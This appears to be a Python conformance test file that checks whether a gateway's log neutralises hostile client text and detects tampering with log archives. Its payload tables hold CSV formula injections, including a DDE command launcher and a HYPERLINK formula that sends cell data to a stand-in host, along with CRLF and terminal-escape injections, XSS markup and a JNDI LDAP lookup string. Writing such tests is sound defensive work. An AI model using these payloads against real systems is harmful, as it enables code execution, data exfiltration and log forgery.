# SPDX-License-Identifier: Apache-2.0
"""Cases 67 and 68: what the log makes of hostile texts, and what was done to an archive of it."""

from typing import Final

from conformance.alterations import (
    HOLDS,
    VIOLATED,
    Alteration,
    added,
    another_base64,
    as_it_is,
    cut_short,
    dropped,
    dropped_with_its_number,
    earlier_of_another_root,
    flipped,
    last_dropped,
    longer_proof,
    missing,
    note_line,
    repeated,
    reversed_,
    rewritten,
    said_to_be_dropped,
    signed_anew,
    swapped,
)
from conformance.case import Ask, Case, Row, Want, chat, row

# Whether policy lets a text pass is another matter: it has one record, and does no harm.
_EITHER: Final = Want(refused=frozenset({400, 401, 403, 404, 422})).or_answered(present=())
_REFUSED: Final = Want(refused=frozenset({400, 401, 403, 404, 422}))

_FORMULAS: Final = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "link": '=HYPERLINK("http://a.example/?"&A1,"<MARK>")',
    "program": "=cmd|' /C calc'!A0",
    "behind blanks": "  =1+1",
    "behind a quote": '"=1+1',
    "behind an apostrophe": "'=1+1",
    "behind a no-break space": "\u00a0=1+1",
    "behind a zero-width space": "\u200b=1+1",
    "behind a byte order mark": "\ufeff=1+1",
    "behind a turned direction": "\u202e=1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(1)",
    "minus of word processors": "−1+1",
    "behind a semicolon": "a;=1+1",
    "behind a comma": 'a","=1+1',
}

_LINES: Final = {
    "another line": 'a\r\n{"kind":"terminal","outcome":"allow"}',
    "another row": 'a"\r\n"1","1","<MARK>"',
    "a line of syslog": "a\n<13>1 2026-01-01T00:00:00Z host gatehouse - - - <MARK>",
    "line separator": "a\u2028b\u2029c\u0085d",
    "red": "\x1b[31m<MARK>\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H<MARK>",
    "a title of the window": "\x1b]0;<MARK>\x07",
    "eight-bit escape": "\x9b31m<MARK>",
    "backspaces": "<MARK>\b\b\b\b",
    "nul": "a\x00b",
    "script": "<script>alert('<MARK>')</script>",
    "markup": "<b><MARK></b><img src=x onerror=alert(1)>",
    "end of a script": '</script><b><MARK>"',
    "percent": "%0d%0a%1b[31m%s%n${jndi:ldap://a.example/<MARK>}{{7*7}}",
}


def _prompt(text: str) -> Ask:
    return Ask(body=chat(messages=[{"role": "user", "content": f"<MARK> {text}"}]))


def _first(text: str) -> Ask:
    return Ask(body=chat(messages=[{"role": "user", "content": text}]))


def _user(text: str) -> Ask:
    return Ask(body=chat(user=text))


def _field(name: bytes, text: str) -> Ask:
    return Ask(fields=(name + b": " + text.encode(),))


def _recorded(slug: str, want: Want, ask: Ask) -> Row:
    return row(slug, want, ask, recorded=True)


# A line break in a field would be another field, and is no text of this one.
_ONE_LINE: Final = {
    slug: text for slug, text in (_FORMULAS | _LINES).items() if text.isprintable() and text.strip() == text
}

LOG_CASES: Final = (
    Case(
        number=67,
        title="No text of a client's is a line, an escape, a formula or markup in what the log hands out",
        rows=(
            row("sibling: a model's name", _REFUSED, Ask(body=chat(model="<MARK>")), recorded=True, cell="<MARK>"),
            row("a name that begins with a minus", _REFUSED, Ask(body=chat(model="-1-<MARK>")), recorded=True),
            *(_recorded(f"prompt: {slug}", _EITHER, _first(text)) for slug, text in _FORMULAS.items()),
            *(_recorded(f"prompt: {slug}", _EITHER, _prompt(text)) for slug, text in _LINES.items()),
            *(
                _recorded(f"model: {slug}", _REFUSED, Ask(body=chat(model=text)))
                for slug, text in (_FORMULAS | _LINES).items()
            ),
            *(_recorded(f"user: {slug}", _EITHER, _user(text)) for slug, text in (_FORMULAS | _LINES).items()),
            *(_recorded(f"request id: {slug}", _EITHER, _field(b"x-request-id", t)) for slug, t in _ONE_LINE.items()),
            *(_recorded(f"agent: {slug}", _EITHER, _field(b"User-Agent", text)) for slug, text in _ONE_LINE.items()),
            *(_recorded(f"trace: {slug}", _EITHER, _field(b"traceparent", text)) for slug, text in _ONE_LINE.items()),
            *(
                _recorded(f"path: {slug}", _REFUSED, Ask(line=b"POST /v1/" + path + b" HTTP/1.1"))
                for slug, path in {
                    "formula": b"=1+1",
                    "escaped line break": b"a%0d%0ab",
                    "escaped escape": b"%1b[31m",
                    "markup": b"<b><MARK></b>",
                }.items()
            ),
        ),
    ),
    Case(
        number=68,
        title="Whatever was done to an archive of the log is found, and what nobody did is not",
        alterations=(
            Alteration(slug="sibling: as it is", alter=as_it_is, integrity=HOLDS, completeness=HOLDS),
            Alteration(
                slug="an older archive beside a newer checkpoint",
                alter=as_it_is,
                integrity=HOLDS,
                completeness=VIOLATED,
                beside=True,
            ),
            Alteration(
                slug="an entry hidden as dropped by retention",
                alter=said_to_be_dropped("terminal"),
                integrity=HOLDS,
                completeness=VIOLATED,
            ),
            Alteration(slug="last entry dropped", alter=last_dropped(1)),
            Alteration(slug="last 5 entries dropped", alter=last_dropped(5)),
            Alteration(slug="an end dropped", alter=dropped("terminal"), completeness=VIOLATED),
            Alteration(slug="an end dropped, its number left free", alter=dropped_with_its_number("terminal")),
            Alteration(slug="a request dropped", alter=dropped("admission"), completeness=VIOLATED),
            Alteration(slug="the start of a source dropped", alter=dropped("start"), completeness=VIOLATED),
            Alteration(slug="a gap dropped", alter=dropped("gap"), completeness=VIOLATED),
            Alteration(slug="an act of administration dropped", alter=dropped("admin")),
            Alteration(slug="two entries swapped", alter=swapped),
            Alteration(slug="order turned round", alter=reversed_),
            Alteration(slug="an entry instead of the next", alter=repeated),
            Alteration(slug="a decision rewritten", alter=rewritten(stated=False), completeness=HOLDS),
            Alteration(slug="a decision rewritten, and its hash", alter=rewritten(stated=True), completeness=HOLDS),
            Alteration(slug="rewritten and signed with another key", alter=signed_anew, completeness=HOLDS),
            Alteration(slug="another origin", alter=note_line(0, lambda line: line + b"x"), ungraspable=True),
            Alteration(slug="another size", alter=note_line(1, lambda size: b"%d" % (int(size) + 1)), ungraspable=True),
            Alteration(slug="another root", alter=note_line(2, another_base64)),
            Alteration(slug="another signature", alter=note_line(4, another_base64)),
            Alteration(slug="a longer proof", alter=longer_proof),
            Alteration(slug="an earlier checkpoint of another root", alter=earlier_of_another_root),
            *(
                Alteration(slug=f"{prefix} cut short", alter=cut_short(prefix), ungraspable=True)
                for prefix in ("entries-", "checkpoint", "range-proof.json", "earlier/")
            ),
            *(
                Alteration(slug=f"{prefix} missing", alter=missing(prefix), ungraspable=True)
                for prefix in ("entries-", "checkpoint", "range-proof.json", "earlier/", "manifest.json")
            ),
            Alteration(slug="a file added", alter=added),
            *(
                Alteration(
                    slug=f"{prefix} flipped at {part} of {parts}", alter=flipped(prefix, part, parts), ungraspable=True
                )
                for prefix, parts in {
                    "entries-": 8,
                    "checkpoint": 4,
                    "range-proof.json": 3,
                    "earlier/": 3,
                    "keys/": 2,
                }.items()
                for part in range(parts + 1)
            ),
        ),
    ),
)
